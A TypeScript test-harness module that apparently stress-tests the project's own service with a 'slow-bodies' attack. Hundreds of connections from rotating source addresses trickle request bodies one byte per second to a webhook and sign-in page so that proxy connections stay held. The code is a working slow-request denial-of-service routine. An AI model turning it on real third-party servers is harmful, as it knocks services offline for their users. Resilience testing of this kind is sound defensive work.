import { connect, type Socket } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import { mintToken } from '@pagebell/tokens/token'
import { type Attack, usualBounds } from '../attack.ts'
import { addressOf } from '../harness/send-from.ts'

const clients = 300
const announcedBytes = 4_000

/** A proxy that streams bodies holds an upstream connection for each slow client. */
export const attack: Attack = {
  name: 'slow-bodies',
  does: '300 clients from 30 addresses, without credentials, send a body of 4,000 bytes at a byte a second to webhooks and panel, and open the next connection when one is closed',
  victims: { webhook: usualBounds, 'panel-page': usualBounds },
  async run({ world, signal, underWay }) {
    const { hostname, port } = new URL(world.publicUrl)
    const paths = [`/api/hooks/${mintToken('pbh_')}/submit`, '/sign-in']
    const slow = new Set<Socket>()
    let opened = 0

    function open(number: number): void {
      opened++
      const socket = connect({ host: hostname, port: Number(port), localAddress: addressOf(number % 30) })
      slow.add(socket)
      const type = number % 2 === 0 ? 'application/json' : 'application/x-www-form-urlencoded'
      const head = `POST ${paths[number % 2]} HTTP/1.1\r\nhost: ${hostname}:${port}\r\ncontent-type: ${type}`
      socket.write(`${head}\r\ncontent-length: ${announcedBytes}\r\n\r\n`)
      // A connection that is reset is one that is closed: both come to the same.
      socket.on('error', () => socket.destroy())
      socket.once('close', () => slow.delete(socket))
      socket.resume()
    }

    try {
      for (let second = 0; !signal.aborted && second < 600; second++) {
        for (let number = slow.size; number < clients && opened < 20_000; number++) open(opened)
        for (const socket of slow) socket.write('a')
        await pause(1_000)
        // By then the bodies have begun, and connections are held where they can be.
        if (second === 2) underWay()
      }
    } finally {
      for (const socket of slow) socket.destroy()
    }
  },
}
